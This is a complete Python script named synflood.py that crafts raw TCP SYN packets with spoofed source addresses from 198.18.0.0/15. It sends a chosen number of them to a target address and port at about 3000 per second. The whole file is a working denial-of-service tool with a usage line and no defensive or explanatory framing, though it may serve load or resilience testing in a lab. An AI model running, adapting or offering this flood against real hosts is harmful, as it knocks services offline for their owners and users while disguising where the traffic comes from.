# synflood.py ADDRESS PORT COUNT - that many SYNs with options like Linux's, each
# from another address of 198.18.0.0/15, where nobody is who could answer.
import random, socket, struct, sys, time

to, port, count = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
dst = socket.inet_aton(to)


def fold(data):
    total = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def syn(i):
    src = struct.pack("!I", (198 << 24 | 18 << 16) + 1 + i % 100000)
    options = bytes([2, 4, 5, 180, 4, 2, 8, 10]) + struct.pack("!II", i, 0) + bytes([1, 3, 3, 7])
    head = struct.pack("!HHIIBBH", random.randrange(1024, 65536), port,
                       random.getrandbits(32), 0, 10 << 4, 2, 64240)
    tcp = head + b"\0\0\0\0" + options
    total = fold(src + dst + struct.pack("!HH", 6, len(tcp)) + tcp)
    tcp = head + struct.pack("!HH", total, 0) + options
    ip = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(tcp), 0, 0, 64, 6, 0) + src + dst
    return ip + tcp


s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
for i in range(count):
    s.sendto(syn(i), (to, 0))
    if i % 20 == 0:
        time.sleep(0.005)  # some 3000 a second
